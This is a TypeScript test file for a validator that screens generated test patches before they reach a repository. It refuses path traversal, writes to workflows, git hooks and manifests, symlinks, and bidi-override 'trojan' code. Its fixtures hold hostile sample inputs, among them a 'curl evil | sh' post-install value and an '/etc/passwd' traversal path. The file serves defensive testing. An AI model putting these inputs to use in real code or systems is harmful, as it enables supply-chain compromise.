import { describe, expect, it } from 'vitest';
import {
  checkPatch,
  checkPatchText,
  createTestPatch,
  PATCH_LIMITS,
  serializeTestPatch,
  type PatchCheck,
  type PatchCheckOptions,
  type TestPatch,
} from '../../src/testgen/patch.ts';

const HEAD = 'a'.repeat(40);
const options: PatchCheckOptions = {
  testFile: (path) => path.startsWith('test/'),
  expected: { repository: 'acme/widgets', pullRequest: 7, headSha: HEAD },
};

function patch(files: TestPatch['files'], overrides: Partial<TestPatch> = {}): TestPatch {
  return {
    ...createTestPatch({
      repository: 'acme/widgets',
      pullRequest: 7,
      headSha: HEAD,
      files,
      report: {
        funnel: {
          candidates: 4,
          typeChecks: 3,
          passes: 2,
          stable: 2,
          addsValue: 1,
          kept: 1,
          possibleBugs: 0,
        },
        kept: [],
        possibleBugs: [],
      },
    }),
    ...overrides,
  };
}

const file = (path: string, text = "it('works', () => {});\n") => ({ path, text });

function problemsOf(check: PatchCheck) {
  if (check.kind !== 'refused') throw new Error(`expected a refusal, got ${check.kind}`);
  return check.problems;
}

describe('checkPatch', () => {
  it('accepts test files by name, in __tests__, and in the project’s test folders', () => {
    const ok = patch([
      file('src/args.test.ts'),
      file('lib/x.spec.mjs'),
      file('src/__tests__/args.ts'),
      file('test/args/parse.ts'),
      file('src/config.test.ts'),
    ]);
    const check = checkPatch(ok, options);
    expect(check).toEqual({ kind: 'ok', patch: ok });
  });

  it('round-trips through the artifact text', () => {
    const ok = patch([file('test/a.test.ts')]);
    expect(checkPatchText(serializeTestPatch(ok), options)).toEqual({ kind: 'ok', patch: ok });
  });

  const refusedPaths: [string, string, RegExp][] = [
    ['climbing out', 'test/../../etc/passwd.test.ts', /\.\./],
    ['climbing out of a test folder', 'test/../src/index.test.ts', /\.\./],
    ['absolute', '/etc/cron.d/x.test.ts', /absolute/],
    ['a drive letter', 'C:/x.test.ts', /absolute/],
    ['a backslash', 'test\\..\\x.test.ts', /backslash/],
    ['a workflow', '.github/workflows/ci.test.yml', /\.github/],
    ['a workflow written as a test', '.github/workflows/x.test.ts', /\.github/],
    ['a case-folded .github', '.GitHub/workflows/x.test.ts', /GitHub/],
    ['git’s own folder', '.git/hooks/pre-commit.test.js', /\.git/],
    ['installed packages', 'node_modules/vitest/index.test.js', /node_modules/],
    ['nested installed packages', 'test/node_modules/x/index.test.js', /node_modules/],
    ['package.json', 'package.json', /manifest/],
    ['a nested package.json', 'test/package.json', /manifest/],
    ['a lockfile', 'package-lock.json', /manifest|lockfile/],
    ['pnpm’s lockfile', 'test/pnpm-lock.yaml', /lockfile/],
    ['yarn’s lockfile', 'yarn.lock', /lockfile/],
    ['.npmrc', '.npmrc', /dotfile/],
    ['.npmrc in a test folder', 'test/.npmrc', /dotfile/],
    ['the vitest config', 'vitest.config.ts', /config/],
    ['a vitest config named like a test', 'vitest.config.test.ts', /config/],
    ['a test folder’s vitest config', 'test/vitest.config.mts', /config/],
    ['tsconfig', 'tsconfig.json', /config/],
    ['a tsconfig variant', 'test/tsconfig.build.json', /config/],
    ['a setup file in a test folder', 'test/setup.ts', /setup/],
    ['a global setup file', 'test/global-setup.ts', /setup/],
    ['a source file', 'src/index.ts', /not a test file/],
    ['a shell script in a test folder', 'test/run.sh', /not a JavaScript/],
    ['a snapshot', 'test/__snapshots__/a.test.ts.snap', /not a JavaScript/],
    ['an empty segment', 'test//a.test.ts', /empty/],
    ['a dot segment', 'test/./a.test.ts', /empty or `\.`/],
    ['a control character', 'test/a\n.test.ts', /control/],
    ['an empty path', '', /empty/],
    ['a Windows trailing dot', 'node_modules./x/a.test.ts', /ending in a dot/],
    ['a Windows trailing space', 'test/a.test.ts ', /ending in a dot or space/],
    ['an NTFS stream', 'test/a.test.ts:evil', /: \*/],
    ['a very long path', `test/${'a/'.repeat(200)}x.test.ts`, /characters long/],
  ];
  it.each(refusedPaths)('refuses %s, naming the file', (_, path, why) => {
    const problems = problemsOf(checkPatch(patch([file('test/ok.test.ts'), file(path)]), options));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ field: 'files[1].path', path });
    expect(problems[0]!.message).toMatch(why);
  });

  it('refuses two entries that are one file on a case-insensitive checkout', () => {
    const problems = problemsOf(
      checkPatch(patch([file('test/A.test.ts'), file('test/a.test.ts')]), options),
    );
    expect(problems).toEqual([
      {
        field: 'files[1].path',
        path: 'test/a.test.ts',
        message: 'names the same file as test/A.test.ts',
      },
    ]);
  });

  it('refuses entries that are not plain files (a symlink, a mode)', () => {
    for (const entry of [
      { path: 'test/a.test.ts', text: '../../.github/workflows/ci.yml', type: 'symlink' },
      { path: 'test/a.test.ts', text: 'x', mode: '120000' },
    ]) {
      const problems = problemsOf(checkPatch(patch([entry as never]), options));
      expect(problems[0]!.field).toBe('files[0]');
      expect(problems[0]!.message).toMatch(/unrecognized key/i);
    }
  });

  it('refuses text that is not valid UTF-8, binary, or hides code with bidi overrides', () => {
    const cases: [string, RegExp][] = [
      ['a \uD800 lone surrogate', /UTF-8/],
      ['bin\u0000ary', /NUL/],
      ['const isAdmin = false; /* \u202E } \u2066 if (isAdmin) */', /trojan/],
    ];
    for (const [text, why] of cases) {
      const problems = problemsOf(checkPatch(patch([file('test/a.test.ts', text)]), options));
      expect(problems).toHaveLength(1);
      expect(problems[0]).toMatchObject({ field: 'files[0].text', path: 'test/a.test.ts' });
      expect(problems[0]!.message).toMatch(why);
    }
  });

  it('holds each file and the whole patch to a size cap', () => {
    const big = 'x'.repeat(PATCH_LIMITS.fileBytes + 1);
    const one = problemsOf(checkPatch(patch([file('test/a.test.ts', big)]), options));
    expect(one[0]).toMatchObject({ field: 'files[0].text' });
    expect(one[0]!.message).toMatch(/over the 262144-byte cap per file/);

    const quarter = 'x'.repeat(PATCH_LIMITS.fileBytes);
    const many = [1, 2, 3, 4, 5].map((n) => file(`test/a${n}.test.ts`, quarter));
    const total = problemsOf(checkPatch(patch(many), options));
    expect(total).toEqual([{ field: 'files', message: expect.stringMatching(/cap for a patch/) }]);

    const count = Array.from({ length: PATCH_LIMITS.files + 1 }, (_, n) =>
      file(`test/a${n}.test.ts`),
    );
    expect(problemsOf(checkPatch(patch(count), options))[0]!.field).toBe('files');
  });

  it('refuses an artifact over the cap before parsing it, and one that is not JSON', () => {
    const huge = ' '.repeat(PATCH_LIMITS.artifactBytes + 1);
    expect(problemsOf(checkPatchText(huge, options))[0]!.message).toMatch(/over the .* cap/);
    expect(problemsOf(checkPatchText('{"format":', options))[0]).toMatchObject({
      field: '(artifact)',
      message: expect.stringMatching(/not JSON/),
    });
  });

  it('refuses another format, a newer version, and fields it does not know', () => {
    const base = patch([file('test/a.test.ts')]);
    expect(problemsOf(checkPatch({ ...base, format: 'other' }, options))[0]!.field).toBe('format');
    expect(problemsOf(checkPatch({ ...base, version: 2 }, options))[0]).toMatchObject({
      field: 'version',
      message: expect.stringMatching(/newer Steward/),
    });
    const extra = { ...base, postInstall: 'curl evil | sh' };
    expect(problemsOf(checkPatch(extra, options))[0]!.message).toMatch(/postInstall/);
    expect(problemsOf(checkPatch([base], options))[0]!.field).toBe('(artifact)');
    expect(problemsOf(checkPatch(null, options))[0]!.field).toBe('(artifact)');
  });

  it('refuses a patch made for another repository or pull request', () => {
    const problems = problemsOf(
      checkPatch(
        patch([file('test/a.test.ts')], { repository: 'evil/fork', pullRequest: 8 }),
        options,
      ),
    );
    expect(problems.map((p) => p.field)).toEqual(['repository', 'pullRequest']);
  });

  it('refuses a head SHA that is not a full SHA', () => {
    const problems = problemsOf(
      checkPatch(patch([file('test/a.test.ts')], { headSha: 'main' }), options),
    );
    expect(problems[0]).toMatchObject({ field: 'headSha' });
  });

  it('says the head moved when the pull request is no longer at the head the tests were made for', () => {
    const moved = { ...options, expected: { ...options.expected, headSha: 'b'.repeat(40) } };
    const check = checkPatch(patch([file('test/a.test.ts')]), moved);
    expect(check).toMatchObject({ kind: 'head-moved', madeFor: HEAD, current: 'b'.repeat(40) });
    expect(check.kind === 'head-moved' && check.message).toMatch(/head moved.*regenerate/);
  });

  it('holds the report to its shape and caps', () => {
    const base = patch([file('test/a.test.ts')]);
    const bad = {
      ...base,
      report: { ...base.report, funnel: { ...base.report.funnel, kept: -1 } },
    };
    expect(problemsOf(checkPatch(bad, options))[0]!.field).toBe('report.funnel.kept');
    const long = {
      ...base,
      report: {
        ...base.report,
        possibleBugs: [
          { name: 'x', target: 'f', sourcePath: 'src/a.ts', assertion: 'y'.repeat(5000) },
        ],
      },
    };
    expect(problemsOf(checkPatch(long, options))[0]!.field).toBe(
      'report.possibleBugs[0].assertion',
    );
  });
});

describe('checkPatch: the report', () => {
  it('refuses a kept test in a file the patch does not hold', () => {
    const base = patch([file('test/a.test.ts')]);
    const kept = {
      name: 'x',
      target: 'f',
      sourcePath: 'src/a.ts',
      testPath: '.github/workflows/ci.yml',
      kills: [],
      covers: [1],
    };
    const problems = problemsOf(
      checkPatch({ ...base, report: { ...base.report, kept: [kept] } }, options),
    );
    expect(problems).toEqual([
      {
        field: 'report.kept[0].testPath',
        path: '.github/workflows/ci.yml',
        message: 'names a file the patch does not hold',
      },
    ]);
  });
});
